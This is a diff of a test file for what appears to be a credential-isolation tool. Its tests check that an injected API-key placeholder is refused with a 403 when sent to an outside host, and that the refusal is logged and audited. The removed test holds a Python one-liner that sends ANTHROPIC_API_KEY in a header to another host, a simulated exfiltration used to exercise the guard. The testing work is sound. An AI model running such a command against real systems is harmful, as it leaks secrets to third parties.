@@ -3,7 +3,9 @@
 How each was shown to fail: with the secret itself as the placeholder (granted.py) the hunt finds it; with
 `_masked` returning its text (scrub.py) the echo brings it back; with `InjectionTable.site` ignoring `bound_to`
 (inject.py), or without the comparison in `_authority_mismatch` (exchange.py), the stranger receives it or
-the exchange passes; with `leaks` returning None the placeholder travels.
+the exchange passes; with `leaks` returning None the placeholder travels in heads, with `guarded` empty
+(site_rules.py) in bodies, without its loop over `_at_home` to its own host's query; with `guarded` holding all
+rules at every host the prompt is refused.
 """
 
 from __future__ import annotations
@@ -87,19 +89,33 @@ def test_a_stranger_never_gets_it(attacker: Attacker, world: World) -> None:
         assert " 200 " not in answers[name].split("\r\n")[0], (name, answers[name][:200])
 
 
-def test_the_placeholder_to_another_host_is_refused(world: World, runtime: str) -> None:
-    """The leak guard: 403 inside the tunnel with the reason, and nothing reaches the stranger."""
-    before = world.stranger.connections
-    done = world.command(
-        "run", str(world.workspace("ws")), "--runtime", runtime, "--grant", "anthropic", "--",
-        "python3", "-c",
-        "import os,urllib.request as u,urllib.error as e\n"
-        f"r=u.Request('https://{OTHER}/', headers={{'x-api-key': os.environ['ANTHROPIC_API_KEY']}})\n"
-        "try: print(u.urlopen(r).status)\n"
-        "except e.HTTPError as x: print(x.code, x.headers.get('X-Moat-Denied'), x.read().decode())",
-    )  # fmt: skip
-    assert done.stdout.startswith("403 credential-host"), done.stdout + done.stderr
-    assert world.stranger.connections == before
+def test_the_placeholder_in_the_wrong_place_is_refused(world: World, runtime: str) -> None:
+    """The leak guard: 403 inside the tunnel with the reason, and nothing of it reaches the stranger.
+
+    A prompt that quotes it to its own host passes as it is.
+    """
+    before, own = len(world.stranger.received), len(world.origin.received)
+    said = world.probe(runtime, "misplace", {"own": HOST, "other": OTHER})
+    placeholder = said.pop("placeholder").encode()
+    status, code, body = said.pop("own body")
+    assert (status, code) == (200, None)
+    assert f"my key is {placeholder.decode()}" in body
+    assert said.pop("own query")[:2] == [403, "credential-surface"]
+    assert {name: tuple(answer[:2]) for name, answer in said.items()} == dict.fromkeys(
+        said, (403, "credential-host")
+    )
+    assert not any(placeholder.decode() in answer[2] for answer in said.values())
+    arrived = b"".join(bytes(log) for log in world.stranger.received[before:])
+    assert placeholder[:16] not in arrived
+    assert b"x" * 5000 in arrived  # of the stream, what came before it
+    prompts = b"".join(bytes(log) for log in world.origin.received[own:])
+    assert (prompts.count(placeholder), prompts.count(world.secret.encode())) == (1, 1)
+    run = json.loads(world.command("list", "--json").stdout)[0]["id"]
+    journal = world.command("audit", run, "--json").stdout
+    assert '"credential-host"' in journal
+    assert '"credential-surface"' in journal
+    trace = world.command("trace", "--network", "--json", run).stdout
+    assert world.secret not in trace + journal
 
 
 def test_plain_http_gets_no_credential(attacker: Attacker, world: World) -> None:
